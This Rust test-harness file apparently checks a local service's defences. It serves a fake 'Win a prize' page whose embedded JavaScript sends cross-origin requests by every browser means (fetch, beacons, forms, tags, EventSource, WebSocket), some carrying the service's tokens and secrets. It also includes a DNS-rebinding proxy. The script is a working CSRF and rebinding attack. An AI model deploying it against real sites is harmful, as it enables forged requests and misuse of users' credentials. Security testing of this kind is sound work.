//! A page of somebody else: a web server whose page attacks the stall from a browser and reports what it got.

use std::sync::Arc;

use axum::Router;
use axum::extract::State;
use axum::response::Html;
use axum::routing::{get, post};
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::Mutex;

/// What the page reports: each attack with what the page could learn of its answer.
pub type Report = Arc<Mutex<Option<Vec<Value>>>>;

pub struct Evil {
    pub port: u16,
    pub report: Report,
}

/// What the page attacks, handed to its script. It even knows the stall's secrets.
pub struct Target {
    /// Origins under which the stall's own door is reached; empty for "the page's own".
    pub origins: Vec<String>,
    /// Method and path of every operation.
    pub operations: Vec<(String, String)>,
    pub token: String,
    pub admin_secret: String,
    pub signature: String,
    pub body: String,
}

/// Serves the page until the test ends.
pub async fn open(target: &Target) -> Evil {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = json!({
        "report": format!("http://127.0.0.1:{port}/report"),
        "origins": target.origins, "operations": target.operations, "token": target.token,
        "adminSecret": target.admin_secret, "signature": target.signature, "body": target.body,
    });
    let page = format!(
        "<!doctype html><meta charset=\"utf-8\"><title>Win a prize</title><body><script>const target = {script};\n{ATTACK}</script>"
    );
    let report = Report::default();
    let router = Router::new()
        // Closed after the page: on the next connection the name may lead elsewhere.
        .route("/", get(move || std::future::ready(([("connection", "close")], Html(page.clone())))))
        .route("/report", post(take))
        .with_state(Arc::clone(&report));
    tokio::spawn(async move { axum::serve(listener, router).await });
    Evil { port, report }
}

async fn take(State(report): State<Report>, body: String) {
    *report.lock().await = Some(serde_json::from_str(&body).unwrap());
}

/// A name that first leads to the evil page and from then on to the stall, on one port: what rebinding does to a
/// browser.
pub async fn rebind(evil: u16, stall: u16) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        loop {
            let (stream, _) = listener.accept().await.unwrap();
            tokio::spawn(pass_on(stream, evil, stall));
        }
    });
    port
}

/// Looks at the first line only: the page is the evil server's, everything else is the stall's.
async fn pass_on(mut stream: TcpStream, evil: u16, stall: u16) {
    let mut head = [0; 16];
    let seen = loop {
        // A browser opens connections it does not use.
        match stream.peek(&mut head).await {
            Ok(0) | Err(_) => return,
            Ok(seen) if seen >= b"GET / ".len() => break seen,
            Ok(_) => tokio::task::yield_now().await,
        }
    };
    let port = if head[..seen].starts_with(b"GET / ") { evil } else { stall };
    let mut onward = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    let _ = tokio::io::copy_bidirectional(&mut stream, &mut onward).await;
    let _ = onward.shutdown().await;
}

/// Every way a page has to cause a request. An attack's `got` is the status the page could read, or why it could not.
const ATTACK: &str = r#"
const report = [];
const patience = (promise) => Promise.race([promise, new Promise((done) => setTimeout(() => done('nothing'), 4000))]);
async function attack(how, method, path, act) {
  let got;
  try { got = await patience(act()); } catch (error) { got = String(error); }
  report.push({ how, method, path, got: String(got) });
}
const read = async (answer) => answer.type === 'opaque' ? 'opaque' : answer.status;
const loaded = (element, source) => new Promise((done) => {
  element.onload = () => done('loaded'); element.onerror = () => done('error');
  source(element); document.body.append(element);
});
function form(method, url, type, fields) {
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, { method, action: url, enctype: type, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement('input'); field.name = name; field.value = value; form.append(field);
  }
  document.body.append(form);
  return new Promise((done) => {
    // The frame is blank first; what the form brings is another origin's, or an error page.
    frame.onload = () => { let where; try { where = frame.contentWindow.location.href; } catch { where = 'hidden'; } if (where !== 'about:blank') done('frame ' + where); };
    form.submit();
  });
}
(async () => {
  const all = { authorization: 'Bearer ' + target.token, 'x-admin-secret': target.adminSecret,
    'x-webhook-signature': target.signature, 'content-type': 'application/json' };
  for (const origin of target.origins) for (const [method, path] of target.operations) {
    const url = origin + path;
    const body = method === 'POST' ? target.body : undefined;
    await Promise.all([
      attack('fetch', method, path, async () => read(await fetch(url, { method, body, credentials: 'include' }))),
      attack('fetch no-cors', method, path, async () => read(await fetch(url, { method, body, mode: 'no-cors', credentials: 'include' }))),
      attack('fetch with every secret', method, path, async () => read(await fetch(url, { method, body, headers: all }))),
      attack('fetch PUT', method, path, async () => read(await fetch(url, { method: 'PUT', body: target.body }))),
      attack('beacon', method, path, async () => navigator.sendBeacon(url, new Blob([target.body], { type: 'text/plain' }))),
      attack('form POST', method, path, () => form('post', url, 'text/plain', { [target.body]: '' })),
      attack('form GET', method, path, () => form('get', url, 'application/x-www-form-urlencoded', { open: 'false' })),
      attack('image', method, path, () => loaded(document.createElement('img'), (image) => { image.src = url; })),
      attack('script', method, path, () => loaded(document.createElement('script'), (script) => { script.src = url; })),
      attack('style', method, path, () => loaded(document.createElement('link'), (link) => { link.rel = 'stylesheet'; link.href = url; })),
      attack('event source', method, path, () => new Promise((done) => {
        const source = new EventSource(url, { withCredentials: true });
        source.onopen = () => done('open'); source.onerror = () => { source.close(); done('error'); };
      })),
      attack('web socket', method, path, () => new Promise((done) => {
        const socket = new WebSocket(url.replace(/^http/, 'ws').replace(/^\//, 'ws://' + location.host + '/'));
        socket.onopen = () => done('open'); socket.onerror = () => done('error');
      })),
    ]);
  }
  await fetch(target.report, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) });
})();
"#;
